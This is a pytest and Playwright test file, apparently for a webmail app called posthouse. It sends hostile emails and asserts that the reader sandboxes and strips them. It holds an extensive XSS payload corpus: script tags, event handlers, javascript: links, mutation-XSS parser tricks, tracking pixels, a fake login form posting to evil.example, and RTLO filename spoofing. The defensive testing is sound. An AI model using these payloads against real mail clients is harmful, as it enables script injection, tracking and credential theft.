"""Mail that wants to harm: shown as words, running nothing, asking nobody."""

import re
import smtplib
from email.message import EmailMessage

import pytest
from playwright.sync_api import expect

from posthouse.commands.demo.files import png
from tests.support.page import OpenWindow, Window
from tests.support.running import RunningPosthouse

EMILY = "emily.chen@jinghe.example"
EVIL = "https://evil.example"

# name → HTML; each holds the word "Harmless", which must be readable in the end.
HOSTILE = {
    "script": f"<p>Harmless</p><script>alert(1);fetch('{EVIL}/s')</script>"
    f"<script src='{EVIL}/s.js'></script>",
    "handlers": "<p onmouseover=alert(1) onclick='alert(2)'>Harmless</p>"
    "<img src=x onerror=alert(3)><svg onload=alert(4)><animate onbegin=alert(5) attributeName=x>"
    "</svg><details open ontoggle=alert(6)>x</details><input autofocus onfocus=alert(7)>"
    "<video><source onerror=alert(8)></video><body onload=alert(9)>",
    "links": "<p>Harmless</p><a href='javascript:alert(1)'>one</a>"
    "<a href='&#x6a;ava&#x0a;script:alert(2)'>two</a><a href=' vbscript:x'>three</a>"
    "<a href='data:text/html,<script>alert(3)</script>'>four</a>"
    "<a href='https://shop.example/offer'>good</a>",
    "remote": f"<p>Harmless</p><img src='{EVIL}/pixel.gif'><img srcset='{EVIL}/a.png 2x'>"
    f"<picture><source srcset='{EVIL}/b.png'><img></picture><table background='{EVIL}/c.png'>"
    f"<tr><td>x</td></tr></table><video poster='{EVIL}/d.png'></video>"
    f"<audio src='{EVIL}/e.mp3' autoplay></audio><image href='{EVIL}/f.png'></image>"
    f"<svg><image href='{EVIL}/g.png'/><use href='{EVIL}/h.svg#x'/></svg>"
    f"<input type=image src='{EVIL}/i.png'>",
    "styles": f"<style>@import '{EVIL}/a.css'; body{{background:url({EVIL}/b.png)}}"
    f"@font-face{{font-family:x;src:url({EVIL}/c.woff)}} p{{font-family:x}}"
    "#root,body *{position:fixed!important;inset:0;z-index:99999}</style>"
    f"<p style=\"background:u\\rl('{EVIL}/d.png')\">Harmless</p>"
    f"<div style='position:fixed;inset:0;z-index:9999;background:red'>over all</div>"
    f"<div style='width:expression(alert(1));behavior:url({EVIL}/e.htc)'>x</div>"
    f"<link rel=stylesheet href='{EVIL}/f.css'><link rel=prefetch href='{EVIL}/g'>"
    f"<link rel=dns-prefetch href='{EVIL}'>",
    "frames": f"<p>Harmless</p><iframe src='{EVIL}/f'></iframe><iframe srcdoc='<script>"
    f"parent.alert(1)</script>'></iframe><object data='{EVIL}/o'></object><embed src='{EVIL}/e'>"
    f"<frameset><frame src='{EVIL}/g'></frameset><portal src='{EVIL}/p'></portal>",
    "whole page": f"<base href='{EVIL}/'><meta http-equiv=refresh content='0;url={EVIL}/m'>"
    "<p>Harmless</p><img src='relative.png'><a href='/settings'>relative</a>"
    f"<form action='{EVIL}/login' method=post><input name=password><button>Sign in</button></form>",
    "confusion": "<p>Harmless</p><svg><style><img src=x onerror=alert(1)></style></svg>"
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1"
    " onerror=alert(2)&gt;'></table></mtext></math><noscript><p title='</noscript><img src=x"
    " onerror=alert(3)>'></noscript><template><script>alert(4)</script></template>"
    "<!--><img src=x onerror=alert(5)>--><![CDATA[<script>alert(6)</script>]]>"
    "<textarea></textarea><img src=x onerror=alert(7)></textarea>"
    "<xmp><img src=x onerror=alert(8)></xmp><plaintext>",
}
WORDS = re.compile("Harmless")


@pytest.fixture(scope="module")
def delivered(demo: RunningPosthouse) -> None:
    """All of it came in through the SMTP port."""
    with demo.smtp() as client:
        for name, html in HOSTILE.items():
            _send(client, f"Hostile: {name}", html)


@pytest.fixture
def emily(open_window: OpenWindow, delivered: None) -> Window:
    """Emily opens everything. Her window fails the test by itself on a dialog, an error of a
    script, a breach of the policy, and on every request to somebody else."""
    opened = open_window(locale="en-GB")
    opened.enter(EMILY)
    return opened


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_mail_is_words_only(emily: Window, name: str):
    emily.row(f"Hostile: {name}").click()
    frame = emily.reader.locator("iframe").first
    inside = frame.content_frame
    expect(inside.get_by_text(WORDS).first).to_be_visible()
    sandbox = (frame.get_attribute("sandbox") or "").split()
    assert "allow-scripts" not in sandbox
    assert "allow-forms" not in sandbox
    assert "allow-top-navigation" not in sandbox
    dangerous = inside.locator("body").locator(
        "script, iframe, object, embed, form, link, base, meta[http-equiv=refresh], svg, math"
    )
    expect(dangerous).to_have_count(0)
    handlers = inside.locator("body").evaluate(
        """body => [...body.querySelectorAll('*')].flatMap((element) =>
             [...element.attributes].filter(({ name, value }) =>
               name.startsWith('on') || /^\\s*(javascript|vbscript|data:text)/i.test(value))
             .map(({ name }) => name))"""
    )
    assert handlers == []
    assert inside.locator("base").evaluate_all("all => all.map((base) => base.outerHTML)") == [
        '<base target="_blank">'
    ]
    for link in inside.get_by_role("link").all():
        assert re.match("https?:|mailto:", link.get_attribute("href") or ""), link
        assert "noopener" in (link.get_attribute("rel") or "")
    assert emily.page.url.startswith(emily.origin)
    # Nothing of the mail lies over the page: its own buttons still take the press.
    emily.page.get_by_role("button", name="Reply to Mallory").click()
    expect(emily.page.get_by_role("textbox", name="Text of the mail")).to_be_focused()
    emily.page.keyboard.press("Escape")
    emily.picture(f"hostile-{name.replace(' ', '-')}.en")


def test_remote_pictures_come_by_a_press_and_through_our_server(emily: Window):
    emily.row("Hostile: remote").click()
    notice = emily.reader.get_by_text(re.compile("remote images? (is|are) not loaded"))
    expect(notice).to_be_visible()
    assert emily.outside == []
    emily.reader.get_by_role("button", name="Show images").click()
    expect(notice).to_have_count(0)
    picture = emily.reader.locator("iframe").content_frame.locator("img[src]").first
    expect(picture).to_have_attribute("src", re.compile(r"^/api/v1/"))


def test_a_link_opens_elsewhere_and_tells_nothing(emily: Window):
    emily.row("Hostile: links").click()
    link = emily.reader.locator("iframe").content_frame.get_by_role("link", name="good")
    expect(link).to_have_attribute("rel", re.compile("noreferrer"))
    expect(emily.reader.locator("iframe").content_frame.get_by_role("link")).to_have_count(1)


def test_hostile_words_outside_the_body_are_words(demo: RunningPosthouse, emily: Window):
    subject = "<img src=x onerror=alert(1)> \u202egnp.exe"
    with demo.smtp() as client:
        letter = _letter(subject, "<p>Harmless</p>")
        del letter["From"]
        letter["From"] = '"<script>alert(2)</script>" <mallory@evil.example>'
        letter.add_attachment(
            b"<script>alert(3)</script>", maintype="text", subtype="html", filename="<b>x.html"
        )
        client.send_message(letter, "mallory@evil.example", [EMILY])
    row = emily.row("<img src=x onerror=alert(1)>")
    expect(row).to_have_count(1)
    row.click()
    expect(emily.reader.get_by_role("heading", level=2)).to_contain_text("<img src=x onerror")
    file = emily.reader.get_by_role("link", name="Download _b_x.html")
    expect(file).to_be_visible()
    emily.picture("hostile-words.en")
    answer = emily.context.request.get(emily.origin + (file.get_attribute("href") or ""))
    assert answer.headers["content-disposition"].startswith("attachment")
    assert "sandbox" in answer.headers["content-security-policy"]


def test_a_file_is_looked_at_and_not_run(demo: RunningPosthouse, emily: Window):
    with demo.smtp() as client:
        letter = _letter("Files to look at", "<p>Harmless</p>")
        page = f"<script>alert(1)</script><img src='{EVIL}/x.png' onerror=alert(2)>报价"
        letter.add_attachment(page.encode(), "text", "html", filename="page.html")
        letter.add_attachment(png(80, 40, (60, 120, 90)), "image", "png", filename="plate.png")
        letter.add_attachment(b"<svg onload='alert(3)'/>", "image", "svg+xml", filename="x.svg")
        client.send_message(letter)
    emily.row("Files to look at").click()
    files = emily.reader.get_by_role("list", name="3 attachments")
    files.get_by_role("link", name="Download page.html").focus()
    emily.page.keyboard.press("Space")
    seen = emily.page.get_by_role("dialog", name="page.html")
    expect(seen.locator("pre")).to_have_text(page)
    expect(seen.locator("pre *")).to_have_count(0)
    emily.picture("preview-text.en")
    emily.page.keyboard.press("Escape")
    expect(seen).to_have_count(0)
    files.get_by_role("button", name="Preview plate.png").click()
    picture = emily.page.get_by_role("dialog", name="plate.png").get_by_role("img")
    expect(picture).to_be_visible()
    assert picture.evaluate("image => image.decode().then(() => image.naturalWidth)") == 80
    emily.picture("preview-picture.en")
    emily.page.keyboard.press("Escape")
    expect(files.get_by_role("button", name="Preview x.svg")).to_have_count(0)
    emily.picture("preview-cards.en")


# What turns letters around, and what nobody sees (UAX #9, UTS #39); isolates are the page's own.
UNSEEN = re.compile(
    "[\u00ad\u115f\u200b-\u200f\u202a-\u202e\u2060-\u2065\u206a-\u206f\u3164\ufeff]"
)
ENDINGS = ("invoice_\u202efdp.exe", "\u05d7\u05e9\u05d1\u05d5.pdf.exe")
RIGHTMOST = """name => {
    const parts = [...name.children].filter((part) => part.textContent)
    const edge = (part) => part.getBoundingClientRect().right
    return parts.toSorted((a, b) => edge(a) - edge(b)).at(-1).textContent
}"""


def test_no_name_reads_as_another(demo: RunningPosthouse, emily: Window):
    with demo.smtp() as client:
        letter = _letter("Turned \u202efdp.exe\u202c around \u200bbank\u00ad", "<p>Harmless</p>")
        del letter["From"]
        letter["From"] = '"Your \u202eknab\u202c \u3164Bank" <mallory@evil.example>'
        for name in ENDINGS:
            letter.add_attachment(b"MZ", "application", "pdf", filename=name)
        client.send_message(letter, "mallory@evil.example", [EMILY])
    row = emily.row("Turned")
    expect(row).to_contain_text("Turned \ufffdfdp.exe around bank")
    expect(row).to_contain_text("Your \ufffdknab Bank")
    row.click()
    expect(emily.reader.get_by_role("heading", level=2)).to_have_text(
        "Turned \ufffdfdp.exe around bank"
    )
    files = emily.reader.get_by_role("link", name=re.compile("^Download"))
    expect(files).to_have_count(len(ENDINGS))
    for file in files.all():
        assert file.locator("[dir=ltr]").first.evaluate(RIGHTMOST) == ".exe"
        answer = emily.context.request.get(emily.origin + (file.get_attribute("href") or ""))
        assert "%E2%80%AE" not in answer.headers["content-disposition"]
    emily.picture("hostile-turned.en")
    assert not UNSEEN.search(emily.page.content())
    emily.page.get_by_role("link", name="Search").click()
    emily.page.get_by_role("combobox", name="Search").fill("around")
    emily.page.keyboard.press("Enter")
    expect(emily.row("Turned")).to_have_count(1)
    assert not UNSEEN.search(emily.page.content())
    assert not UNSEEN.search(emily.page.title())


def _letter(subject: str, html: str) -> EmailMessage:
    letter = EmailMessage()
    letter["From"] = "Mallory <mallory@evil.example>"
    letter["To"] = EMILY
    letter["Subject"] = subject
    letter["Message-ID"] = f"<{abs(hash(subject))}@evil.example>"
    letter.set_content(html, subtype="html")
    return letter


def _send(client: smtplib.SMTP, subject: str, html: str) -> None:
    client.send_message(_letter(subject, html))
